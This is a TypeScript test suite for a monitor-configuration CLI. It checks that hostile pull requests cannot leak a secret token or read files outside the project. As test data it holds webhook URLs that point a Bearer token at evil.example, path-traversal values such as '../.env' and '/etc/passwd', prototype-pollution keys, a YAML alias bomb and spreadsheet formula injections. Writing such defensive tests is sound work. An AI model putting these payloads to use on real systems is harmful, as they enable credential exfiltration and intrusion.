import {readFileSync, symlinkSync} from 'node:fs';
import {API_KEY, startUserWorld, type UserWorld} from '../world/service';

/** Attacks by a pull request with layers, lists, variables and environments, in the real tool against the emulator. */
let world: UserWorld;
afterEach(() => world.close());

const CONFIG = 'project: acme\nservice: {operations: full}\nsecrets: {allow: [TOKEN]}\n';
const ENVIRONMENTS =
  'environments: {staging: {vars: {HOOKS: "https://hooks.example"}}, production: {vars: {HOOKS: "https://hooks.example"}}}\n';
const LAYER = 'schedule: {text: daily}\nwebhook: {url: "https://hooks.example/x", headers: {Authorization: "Bearer ${env:TOKEN}"}}\n';
const page = (name: string, more = '') => `name: ${name}\ntargets: [{type: scrape, urls: ["https://${name}.example/"]}]\n${more}`;
const LIST = 'name: Site ${each:name}\nschedule: {text: daily}\ntargets: [{type: scrape, urls: ["https://${each:key}.example/"]}]\n';
const CSV = 'sync: {each: {file: _rows.csv}}\n';

const start = async (files: Readonly<Record<string, string>>): Promise<void> => {
  world = await startUserWorld({'monitors.config.yaml': CONFIG, ...files}, {}, {operations: 'full'});
};
const write = (files: Readonly<Record<string, string>>) => world.workspace.write(files);
const run = (...args: string[]) => world.runHere(args, {env: {TOKEN: 'hunter2-hunter2'}});
const words = (text: string) => text.replace(/\s+/g, ' ');
const found = async (...flags: string[]): Promise<string[]> => {
  const {stdout} = await run('validate', '--format', 'json', ...flags);
  const {diagnostics} = JSON.parse(stdout) as {diagnostics: {code: string; file: string; severity: string}[]};
  return diagnostics.filter(({severity}) => severity === 'error').map(({code, file}) => `${file} ${code}`);
};

describe('S30: a token goes to no other host by a changed webhook.url alone', () => {
  const EVIL = 'webhook: {url: "https://evil.example/x"}\n';
  const REFUSED = expect.stringMatching(/ fleet\/secret-origin$/);

  test.each([
    {name: 'in a spec', files: {'monitors/a.yaml': page('a', EVIL)}},
    {name: 'in a layer below', files: {'monitors/in/_defaults.yaml': EVIL, 'monitors/in/b.yaml': page('b')}},
    {name: 'in an overlay', files: {'monitors/_overlay.staging.yaml': EVIL}},
    {name: 'by a variable', files: {'monitors/in/_defaults.yaml': 'webhook: {url: "${var:EVIL}/x"}\n', 'monitors/in/b.yaml': page('b')}},
    {
      name: 'by a cell',
      files: {'monitors/l.yaml': `${LIST}webhook: {url: "\${each:hook}"}\n${CSV}`},
      code: / fleet\/(?:secret|open)-origin$/,
    },
    {name: 'on another port', files: {'monitors/a.yaml': page('a', 'webhook: {url: "https://hooks.example:8443/x"}\n')}},
    {name: 'without encryption', files: {'monitors/a.yaml': page('a', 'webhook: {url: "http://hooks.example/x"}\n')}},
    {name: 'with the host as a user', files: {'monitors/a.yaml': page('a', 'webhook: {url: "https://hooks.example@evil.example/x"}\n')}},
    {
      name: 'with another header beside it in another case',
      files: {'monitors/a.yaml': page('a', 'webhook: {url: "https://evil.example/x", headers: {"x-authorization": b}}\n')},
    },
  ])('$name', async ({files, code}: {files: Readonly<Record<string, string>>; code?: RegExp}) => {
    const environments = ENVIRONMENTS.replaceAll('{HOOKS', '{EVIL: "https://evil.example", HOOKS');
    await start({
      'monitors.config.yaml': CONFIG + environments,
      'monitors/_defaults.yaml': LAYER,
      'monitors/a.yaml': page('a'),
      'monitors/_rows.csv': 'key,name,hook\nx,X,https://evil.example/x\n',
    });
    expect(await found('--environment', 'staging')).toEqual([]);
    write(files);
    expect(await found('--environment', 'staging')).toContainEqual(code === undefined ? REFUSED : expect.stringMatching(code));
    expect(await run('apply', '--auto-approve', '--environment', 'staging')).toMatchObject({exitCode: 1});
    expect(world.emulator.monitors()).toEqual([]);
  });

  test('the name of the header in another case replaces it, and no host gets both', async () => {
    await start({
      'monitors/_defaults.yaml': LAYER,
      'monitors/a.yaml': page('a', 'webhook: {url: "https://evil.example/x", headers: {authorization: mine}}\n'),
    });
    expect(await found()).toEqual([]);
    expect(await run('apply', '--auto-approve')).toMatchObject({exitCode: 0});
    expect(world.emulator.monitors()[0]?.webhook).toMatchObject({url: 'https://evil.example/x', headers: {authorization: 'mine'}});
    expect(JSON.stringify(world.emulator.monitors())).not.toContain('hunter2');
  });

  test.each([
    {
      name: 'the layer that has both',
      before: {'monitors/_defaults.yaml': LAYER},
      after: {'monitors/_defaults.yaml': LAYER.replace('hooks.example', 'evil.example')},
    },
    {
      name: 'the variable',
      before: {'monitors/_defaults.yaml': LAYER.replace('https://hooks.example', '${var:HOOKS}')},
      after: {'monitors.config.yaml': CONFIG + ENVIRONMENTS.replaceAll('hooks.example', 'evil.example')},
    },
  ])(
    '$name that changes is listed with the variable and the new origin',
    async ({before, after}: {before: Readonly<Record<string, string>>; after: Readonly<Record<string, string>>}) => {
      await start({'monitors.config.yaml': CONFIG + ENVIRONMENTS, 'monitors/a.yaml': page('a'), ...before});
      expect(await run('apply', '--auto-approve', '--environment', 'staging')).toMatchObject({exitCode: 0});
      write(after);
      const {stdout, stderr} = await run('plan', '--environment', 'staging');
      expect(words(stderr)).toMatch(/plan\/new-origin.*TOKEN.*https:\/\/evil\.example/);
      expect(stdout + stderr).not.toContain('hunter2');
    },
  );
});

describe('I60: hostile cells and data files', () => {
  test('two cells, or a text and a cell, never make a reference', async () => {
    await start({
      'monitors/l.yaml': `${LIST}goal: "\${each:a}\${each:b} \${each:c}{env:TOKEN} $\${each:b}"\nwebhook: {url: "https://hooks.example/", headers: {A: "\${each:a}\${each:b}"}, metadata: {m: "$\${each:b}"}}\n${CSV}`,
      'monitors/_rows.csv': 'key,name,a,b,c\nx,X,$,{env:TOKEN},$\n',
    });
    expect(await run('apply', '--auto-approve')).toMatchObject({exitCode: 0});
    const text = JSON.stringify(world.emulator.monitors());
    expect(text).toContain('${env:TOKEN} ${env:TOKEN}');
    expect(text).not.toContain('hunter2');
  });

  test.each([
    '../.env',
    '../.env.csv',
    '../../outside.csv',
    '/etc/passwd',
    'file:///etc/passwd.csv',
    '..\\.env.csv',
    '.hidden/rows.csv',
    'x/../../.env.csv',
    'link/rows.csv',
    '_rows.CSV',
    '${var:X}.csv',
    '_rows.csv\0.yaml',
    'd.csv',
  ])('"file: %j" is refused, and nothing of it is shown', async file => {
    await start({
      '.env': 'key,name\nhunter2,hunter2\n',
      '.env.csv': 'key,name\nhunter2,hunter2\n',
      'monitors/.hidden/rows.csv': 'key,name\nhunter2,hunter2\n',
      'monitors/d.csv/x': '',
    });
    symlinkSync('.hidden', world.workspace.path('monitors/link'));
    write({
      'monitors/l.yaml': `${LIST}sync: {each: {file: ${JSON.stringify(file)}}}\n`,
      'monitors/_rows.CSV': 'key,name\nhunter2,hunter2\n',
    });
    for (const format of ['text', 'json', 'sarif', 'github', 'gitlab']) {
      const {exitCode, stdout, stderr} = await run('validate', '--format', format);
      expect(exitCode).toBe(1);
      expect(stdout + stderr).not.toMatch(/hunter2|root:/);
    }
  });

  test.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])(
    '"%s" is a name like others, or refused, wherever it stands',
    async name => {
      await start({'monitors/l.yaml': `${LIST}goal: "\${each:${name}} or"\n${CSV}`, 'monitors/_rows.csv': 'key,name\nx,X\n'});
      expect(await found()).toEqual(['monitors/l.yaml list/unknown-column']);
      write({'monitors/_rows.csv': `key,name,${name}\nx,X,cell\n`});
      expect(await found()).toEqual([]);
      expect(await run('apply', '--auto-approve')).toMatchObject({exitCode: 0});
      expect(world.emulator.monitors()[0]?.goal).toBe('cell or');
      write({'monitors/l.yaml': `${LIST}goal: "\${var:${name}}"\n${CSV}`});
      expect(await found()).toEqual(['monitors/l.yaml fleet/unknown-variable']);
      write({
        'monitors/l.yaml': `${LIST}${CSV}`,
        'monitors/_defaults.yaml': `${name}: {polluted: yes}\ntargets: {${name}: {polluted: yes}, scrape: {scrapeOptions: {${name}: {polluted: yes}}}}\n`,
      });
      expect(await found()).not.toEqual([]);
      write({'monitors/_defaults.yaml': `sync: {labels: {${name}: x}}\n`});
      await found();
      const {exitCode} = await run('plan', '--label', `${name}=x`);
      expect([0, 1, 3]).toContain(exitCode);
      expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
      expect(Object.keys(Object.prototype)).toEqual([]);
    },
  );

  test('a data file of aliases on aliases is refused at once, and one on many rows by its size', async () => {
    const bomb = [
      '- {key: r0, name: &a0 [x, x]}',
      ...Array.from({length: 60}, (_, index) => `- {key: r${index + 1}, name: &a${index + 1} [*a${index}, *a${index}]}`),
    ];
    await start({'monitors/l.yaml': LIST + CSV.replace('.csv', '.yaml'), 'monitors/_rows.yaml': `${bomb.join('\n')}\n`});
    expect(await found()).toContainEqual(expect.stringMatching(/^monitors\/_rows\.yaml yaml\//));
    const wide = Array.from({length: 99}, (_, index) => `- {key: r${index + 1}, name: *a}`);
    write({'monitors/_rows.yaml': `- {key: r0, name: &a ${'x'.repeat(1_000_000)}}\n${wide.join('\n')}\n`});
    expect(await found()).not.toEqual([]);
    expect(await run('apply', '--auto-approve')).toMatchObject({exitCode: 1});
    expect(world.emulator.monitors()).toEqual([]);
  });

  test('a CSV that lost its rows, its header or its end deletes nothing', async () => {
    const rows = Array.from({length: 12}, (_, index) => `r${index},R ${index}`);
    const csv = `key,name\n${rows.join('\n')}\n`;
    await start({'monitors/l.yaml': LIST + CSV, 'monitors/_rows.csv': csv});
    expect(await run('apply', '--auto-approve')).toMatchObject({exitCode: 0});
    const hostile = [
      'key,name\n',
      'key,name',
      '',
      '\n\n',
      `${rows.join('\n')}\n`,
      csv.replaceAll(',', ';'),
      csv.replace('R 0', '"R 0'),
      csv.replace('key,name', 'key,key'),
      `${csv}r0,twice\n`,
      csv.replace('r1,', '../r1,'),
      csv.replace('r1,', '=r1,x,'),
      `\u0000${csv}`,
      csv.slice(0, 40),
    ];
    for (const text of hostile) {
      write({'monitors/_rows.csv': text});
      const {exitCode} = await run('apply', '--auto-approve');
      expect([text, exitCode, world.emulator.monitors().length]).toEqual([text, 1, 12]);
    }
  });

  test('a data file of 50,000 rows is refused with its limit', async () => {
    await start({
      'monitors/l.yaml': LIST + CSV,
      'monitors/_rows.csv': `key,name\n${Array.from({length: 50_000}, (_, index) => `r${index},x\n`).join('')}`,
    });
    expect(await found()).toEqual(['monitors/_rows.csv list/too-many-rows']);
  });

  test.each(['=HYPERLINK("https://evil.example")', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])(
    '%j from the service is never written into a CSV',
    async evil => {
      await start({'monitors/l.yaml': LIST + CSV, 'monitors/_rows.csv': 'key,name\nx,X\n'});
      expect(await run('apply', '--auto-approve')).toMatchObject({exitCode: 0});
      const [monitor] = world.emulator.monitors();
      const {url} = world.emulator;
      await fetch(`${url}/v2/monitor/${monitor?.id}`, {
        method: 'PATCH',
        headers: {authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json'},
        body: JSON.stringify({name: `Site ${evil}`, goal: evil}),
      });
      expect(world.emulator.monitors()[0]?.goal?.trim()).toBe(evil.trim());
      await run('accept', 'l/x', '--auto-approve');
      await run('pull', '--all', '--auto-approve');
      expect(readFileSync(world.workspace.path('monitors/_rows.csv'), 'utf8')).toBe('key,name\nx,X\n');
    },
  );
});
